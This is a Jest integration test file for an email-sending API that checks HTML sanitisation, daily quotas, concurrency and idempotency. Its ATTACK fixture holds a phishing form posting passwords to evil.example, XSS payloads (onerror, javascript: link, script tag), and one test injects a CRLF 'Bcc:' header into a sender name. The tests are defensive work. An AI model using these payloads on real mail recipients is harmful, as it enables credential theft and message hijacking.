import { EmailCleaner } from '../../libs/messaging/src/application/email-cleaner';
import { ThreadLimitPassed, Threads } from '../../libs/platform/src/limits/threads';
import { randomUUID } from 'node:crypto';
import type { INestApplication } from '@nestjs/common';
import { expectFaults, expectProblem } from '../http/expect-problem';
import { type Answer, TestApp } from '../setup/test-app';
import { startWorker } from '../setup/test-worker';
import { Campaigns } from '../voting/support/campaigns';
import { MailServer } from './support/mail-server';
import { until } from '../webhooks/support/receiver';
import { addressOf, mailing, PATH, Post } from './support/post';

const ATTACK = {
  sujet: 'Votre vote : confirmez votre identité',
  corpsHtml: `<p>Bonjour,</p><form action="https://evil.example/vol" method="post"><p>Confirmez :</p>
    <input name="courriel"><input type="password" name="mot-de-passe"><button>Voter</button></form>
    <img src="http://evil.example/pixel" onerror="alert(1)"><a href="javascript:alert(1)">Voter</a><script>alert(1)</script>`,
};

const HOUR_MS = 3_600_000;

let app: TestApp;
let server: MailServer;
let worker: INestApplication;

beforeAll(async () => {
  app = await TestApp.own('a worker runs');
  server = await MailServer.start();
  worker = await startWorker(mailing(app.config, `${server.url}?tls=off`));
});
afterAll(async () => {
  await worker.close();
  await server.stop();
  await app.stop();
});

describe('An email with a password form to 1,000 addresses', () => {
  it('within the quota: 1,000 messages without the form, under the name of the client', async () => {
    const post = await Post.open(app);
    await post.client({ nom: 'Syndicat attaqué' });
    const idExternes = await post.employes(1_000, 'ATT');
    const { id } = await post.email({ idExternes }, ATTACK);
    expect(await post.over(id)).toMatchObject({ envoyes: 1_000 });
    const mails = await server.readAll('att-');
    expect(mails).toHaveLength(1_000);
    expect(new Set(mails.map(({ html }) => html))).toEqual(
      new Set(['<p>Bonjour,</p><p>Confirmez :</p>\n    Voter\n    <img /><a>Voter</a>']),
    );
    expect(new Set(mails.map(({ from }) => from!.text))).toEqual(
      new Set(['"Syndicat attaqué (staging) via Mandat" <ne-pas-repondre@mandat.test>']),
    );
  });

  it('beyond the quota: 429, and nothing is written or sent', async () => {
    const post = await Post.open(app);
    await post.client({ quotaCourrielsParJour: 999 });
    const idExternes = await post.employes(1_000, 'REF');
    const answer = await post.send('POST', PATH, { destinataires: { idExternes }, ...ATTACK });
    expectProblem(answer, 429, 'Courriel.QuotaDepasse');
    expect(await post.rows('SELECT FROM courriel WHERE tenant_id = $1')).toEqual([]);
    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toEqual([]);
    expect(await post.rows(`SELECT FROM pgboss.job WHERE data->>'tenantId' = $1::text`)).toEqual([]);
  });
});

/** Returns the UTC offset, in hours, of a time zone in which it is this hour of the day now. */
function offsetAt(hour: number): number {
  const offset = hour - new Date().getUTCHours();
  return offset < -12 ? offset + 24 : offset;
}

/** Returns the name of the time zone with a UTC offset: POSIX counts westward. */
function zoneOf(offset: number): string {
  return offset === 0 ? 'Etc/UTC' : `Etc/GMT${offset > 0 ? '-' : '+'}${Math.abs(offset)}`;
}

/** Opens a tenant with employees `E-0`…, a quota, and noon as the time of the day. */
async function opened(quotaCourrielsParJour: number, employes: number): Promise<Post> {
  const post = await Post.open(app);
  await post.client({ quotaCourrielsParJour, fuseauHoraire: zoneOf(offsetAt(12)) });
  await post.employes(employes);
  return post;
}

/** Sends an email to the first employees. */
function ask(post: Post, count: number, headers: Record<string, string> = {}): Promise<Answer> {
  const idExternes = Array.from({ length: count }, (_, at) => `E-${at}`);
  const body = { destinataires: { idExternes }, sujet: 'Assemblée', corpsHtml: '<p>Bonjour</p>' };
  return post.send('POST', PATH, body, headers);
}

async function statuses(post: Post, ...counts: number[]): Promise<number[]> {
  const answered: number[] = [];
  for (const count of counts) answered.push((await ask(post, count)).status);
  return answered;
}

describe('The daily quota', () => {
  it('429 for an email beyond the rest, with the rest in the detail; 202 for one that fits exactly', async () => {
    const post = await opened(10, 11);
    expect(await statuses(post, 7)).toEqual([202]);
    const before = Date.now();
    const answer = await ask(post, 4);
    const after = Date.now();
    expectProblem(answer, 429, 'Courriel.QuotaDepasse');
    const offset = offsetAt(12);
    const here = new Date(before + offset * HOUR_MS);
    const midnight =
      Date.UTC(here.getUTCFullYear(), here.getUTCMonth(), here.getUTCDate() + 1) - offset * HOUR_MS;
    expect(answer.json.detail).toBe(
      `The email has 4 recipients. The quota of 10 emails a day has 3 left. It is renewed at ${new Date(midnight).toISOString()}, when a day begins in ${zoneOf(offset)}. Send it after that, or to fewer recipients. Nothing was sent.`,
    );
    const seconds = Number(answer.headers.get('retry-after'));
    expect(seconds).toBeGreaterThanOrEqual(Math.floor((midnight - after) / 1_000));
    expect(seconds).toBeLessThanOrEqual(Math.ceil((midnight - before) / 1_000));
    expect(await statuses(post, 3, 1)).toEqual([202, 429]);
    expect(await post.rows('SELECT FROM courriel WHERE tenant_id = $1')).toHaveLength(2);
    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toHaveLength(10);
  });

  it('the detail for an email beyond the whole quota says that waiting does not help', async () => {
    const { json } = await ask(await opened(10, 11), 11);
    expect(json.detail).toContain('11 recipients. The quota of 10 emails a day has 10 left.');
    expect(json.detail).toContain('divide it over several days, or ask the operator for a larger quota');
  });

  it('a quota of 0 rejects all emails', async () => {
    const post = await opened(0, 1);
    expect(await statuses(post, 1)).toEqual([429]);
    await post.client({ quotaCourrielsParJour: 1 });
    expect(await statuses(post, 1)).toEqual([202]);
  });

  it('a new client has 5,000, which its key shows', async () => {
    const post = await Post.open(app);
    expect((await post.send('GET', '/b2b/v1/moi')).json.limites.courrielsParJour).toBe(5_000);
    await post.employes(2_501);
    expect(await statuses(post, 2_500, 2_501)).toEqual([202, 429]);
  });

  it('recipients without an address and duplicates count, each employee once', async () => {
    const post = await opened(3, 2);
    await post.send('POST', '/b2b/v1/employe', { idExterne: 'S', prenom: 'Zoé', nom: 'Roy' });
    const courriel = addressOf('E-0');
    await post.send('POST', '/b2b/v1/employe', { idExterne: 'D', prenom: 'Zoé', nom: 'Roy', courriel });
    await post.email({ idExternes: ['E-0', 'S', 'D', 'E-0'] });
    expect(await statuses(post, 1)).toEqual([429]);
  });

  it('voters count, and 429 for a roll that does not fit', async () => {
    const post = await opened(4, 1);
    const campaigns = new Campaigns(app, post.tenant);
    const campagneId = await campaigns.draft();
    for (let at = 0; at < 3; at++) await campaigns.votant(campagneId, { Courriel: `v-${at}@example.org` });
    const destinataires = { campagneId, cible: 'tous' };
    await post.email(destinataires);
    const answer = await post.send('POST', PATH, { destinataires, sujet: 'A', corpsHtml: 'A' });
    expectProblem(answer, 429, 'Courriel.QuotaDepasse');
    expect(answer.json.detail).toContain(
      'The email has 3 recipients. The quota of 4 emails a day has 1 left.',
    );
    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toHaveLength(3);
  });

  it('begins with the day in the time zone of the client', async () => {
    const post = await opened(1, 1);
    expect(await statuses(post, 1)).toEqual([202]);
    await post.rows(
      `UPDATE courriel SET date_creation = date_creation - interval '6 hours' WHERE tenant_id = $1`,
    );
    // At noon, six hours ago was today. At one o’clock, six hours ago was yesterday.
    expect(await statuses(post, 1)).toEqual([429]);
    await post.client({ fuseauHoraire: zoneOf(offsetAt(1)) });
    expect(await statuses(post, 1, 1)).toEqual([202, 429]);
  });

  it('is separate for each tenant', async () => {
    const post = await opened(1, 1);
    const other = await opened(1, 1);
    const { json } = await app.send(app.adminKey, 'POST', `/admin/v1/clients/${post.tenant.clientId}/cles`, {
      ...{ nom: 'P', environnement: 'production', role: 'partenaire' },
    });
    await app.send(json.cle, 'POST', '/b2b/v1/employe', { idExterne: 'E-0', prenom: 'Zoé', nom: 'Roy' });
    expect(await statuses(post, 1, 1)).toEqual([202, 429]);
    expect(await statuses(other, 1, 1)).toEqual([202, 429]);
    const body = { destinataires: { idExternes: ['E-0'] }, sujet: 'A', corpsHtml: 'A' };
    expect((await app.send(json.cle, 'POST', PATH, body)).status).toBe(202);
    expectProblem(await app.send(json.cle, 'POST', PATH, body), 429, 'Courriel.QuotaDepasse');
  });
});

describe('Emails at the same time', () => {
  it('two that fit alone but not together: one is sent, one is rejected', async () => {
    const post = await opened(10, 6);
    // Recipients cannot be written while their rows are locked: both requests run up to that point.
    await app.database.query('BEGIN');
    await post.rows('SELECT FROM employe WHERE tenant_id = $1 FOR UPDATE');
    const asked = [ask(post, 6), ask(post, 6)];
    try {
      await until('both wait', async () => {
        const { rows } = await app.database.query<{ waiting: number }>(
          'SELECT count(DISTINCT pid)::int AS waiting FROM pg_locks WHERE NOT granted',
        );
        return rows[0]!.waiting >= 2;
      });
    } finally {
      await app.database.query('COMMIT');
    }
    const answers = await Promise.all(asked);
    expect(answers.map(({ status }) => status).sort()).toEqual([202, 429]);
    const refused = answers.find(({ status }) => status === 429)!;
    expect(refused.json.detail).toContain('The quota of 10 emails a day has 4 left.');
  });

  it('twenty with 30 recipients: as many are sent as fit', async () => {
    const post = await opened(100, 30);
    const answers = await Promise.all(Array.from({ length: 20 }, () => ask(post, 30)));
    expect(answers.filter(({ status }) => status === 202)).toHaveLength(3);
    for (const answer of answers)
      if (answer.status !== 202) expectProblem(answer, 429, 'Courriel.QuotaDepasse');
    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toHaveLength(90);
    expect(await statuses(post, 11, 10)).toEqual([429, 202]);
  });
});

describe('Emails that do not use up the quota', () => {
  it('an email that is rolled back at its end', async () => {
    const post = await opened(5, 5);
    const fails = `CONSTRAINT fails`;
    await app.database.query(
      `ALTER TABLE journal ADD ${fails} CHECK (action <> 'courriel.envoyer') NOT VALID`,
    );
    expect(await statuses(post, 5)).toEqual([500]);
    await app.database.query(`ALTER TABLE journal DROP ${fails}`);
    expect(await statuses(post, 5)).toEqual([202]);
  });

  it('a repetition with the same Idempotency-Key', async () => {
    const post = await opened(6, 3);
    const key = { 'Idempotency-Key': 'L-1' };
    const first = await ask(post, 3, key);
    for (const answer of [await ask(post, 3, key), await ask(post, 3, key)])
      expect([answer.status, answer.json]).toEqual([202, first.json]);
    expect(await statuses(post, 3, 1)).toEqual([202, 429]);
  });

  it('a rejected email, which is sent with the same Idempotency-Key after the quota was raised', async () => {
    const post = await opened(2, 3);
    const key = { 'Idempotency-Key': 'L-2' };
    const refused = await ask(post, 3, key);
    expectProblem(refused, 429, 'Courriel.QuotaDepasse');
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    await post.client({ quotaCourrielsParJour: 3 });
    const sent = await ask(post, 3, key);
    expect([sent.status, sent.headers.get('idempotent-replayed')]).toEqual([202, null]);
    expect((await ask(post, 3, key)).json).toEqual(sent.json);
    expect(await statuses(post, 1)).toEqual([429]);
  });
});

describe('The body of an email', () => {
  it('is stored in its cleaned form', async () => {
    const post = await Post.open(app);
    const idExternes = await post.employes(1, 'BODY');
    const table =
      '<table width="600" cellpadding="0"><tbody><tr><td style="color:#333">A</td></tr></tbody></table>';
    const corpsHtml = `${table}<form><input type="password"></form><iframe src="https://e.example"></iframe>`;
    const { id } = await post.email({ idExternes }, { corpsHtml });
    expect(await post.rows('SELECT corps_html FROM courriel WHERE tenant_id = $1')).toEqual([
      { corps_html: table },
    ]);
    await post.over(id);
    const mails = await server.read(addressOf('BODY-0'));
    expect(mails.map(({ html }) => html)).toEqual([table]);
  });

  it.each([
    ['a body with only a form', '<form><input type="password"></form>', 'empty'],
    ['too many tags', '<b>a</b>'.repeat(10_001), 'length'],
    ['too many levels', '<b>'.repeat(101) + 'a', 'length'],
  ])('400 for %s, and nothing is written', async (_what, corpsHtml, code) => {
    const post = await opened(1, 1);
    const body = { destinataires: { idExternes: ['E-0'] }, sujet: 'A', corpsHtml };
    expectFaults(await post.send('POST', PATH, body), { '/corpsHtml': code });
    expect(await post.rows('SELECT FROM courriel WHERE tenant_id = $1')).toEqual([]);
  });

  it('is cleaned only after all other checks, and beside the main thread if it is long', async () => {
    const post = await opened(1, 1);
    const clean = jest.spyOn(EmailCleaner.prototype, 'clean');
    const send = (idExterne: string, corpsHtml: string) =>
      post.send('POST', PATH, { destinataires: { idExternes: [idExterne] }, sujet: 'A', corpsHtml });
    const long = '<p onclick="x">é</p>'.repeat(9_000);
    expectFaults(await send('E-404', long), { '/destinataires/idExternes/0': 'reference' });
    expect(clean).not.toHaveBeenCalled();
    const threads = jest.spyOn(Threads.prototype, 'run');
    expect((await send('E-0', long)).status).toBe(202);
    expect(await post.rows('SELECT corps_html FROM courriel WHERE tenant_id = $1')).toEqual([
      { corps_html: '<p>é</p>'.repeat(9_000) },
    ]);
    // In the turn of the client, over its environments.
    expect([clean.mock.calls.length, threads.mock.calls.map(([key]) => key)]).toEqual([
      1,
      [post.tenant.clientId],
    ]);
    threads.mockRejectedValue(new ThreadLimitPassed('time'));
    expectProblem(await send('E-0', long), 503, 'Service.Indisponible');
    expect(await post.rows('SELECT FROM courriel WHERE tenant_id = $1')).toHaveLength(1);
    jest.restoreAllMocks();
  });
});

describe('Sender names and addresses', () => {
  it('are those of the client: name, environment, Reply-To; a change applies to the next email', async () => {
    const tenant = await app.tenant({ environnement: 'production' });
    const post = Post.of(app, tenant);
    await post.employes(1, 'NOM');
    const send = async (change: object): Promise<Record<string, unknown>> => {
      await post.client(change);
      const { id } = await post.email({ idExternes: ['NOM-0'] });
      expect(await post.over(id)).toMatchObject({ envoyes: 1 });
      const mails = await server.read(addressOf('NOM-0'));
      const { from, replyTo, headers } = mails.at(-1)!;
      return { from: from!.value, replyTo: replyTo?.value, unsubscribe: headers.has('list-unsubscribe') };
    };
    const address = 'ne-pas-repondre@mandat.test';
    const nom = `Métallos "d'ici" ${randomUUID()}`;
    expect(await send({ nom })).toEqual({
      from: [{ name: `${nom} via Mandat`, address }],
      replyTo: undefined,
      unsubscribe: false,
    });
    expect(
      await send({ nom: `${nom}\r\nBcc: x@example.org`, adresseDeReponse: 'bureau@example.org' }),
    ).toEqual({
      from: [{ name: `${nom} Bcc: x@example.org via Mandat`, address }],
      replyTo: [{ name: '', address: 'bureau@example.org' }],
      unsubscribe: false,
    });
    expect(await send({ adresseDeReponse: null })).toMatchObject({ replyTo: undefined });
  });
});
